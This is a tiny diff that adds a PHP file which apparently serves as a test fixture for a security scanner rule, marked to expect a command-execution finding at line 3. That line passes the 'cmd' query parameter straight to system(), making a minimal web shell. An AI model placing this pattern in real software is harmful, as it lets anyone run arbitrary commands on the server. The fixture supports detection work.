@@ -1,0 +1,3 @@
+<?php
+// want: php_request_command_exec@3
+system($_GET['cmd']);
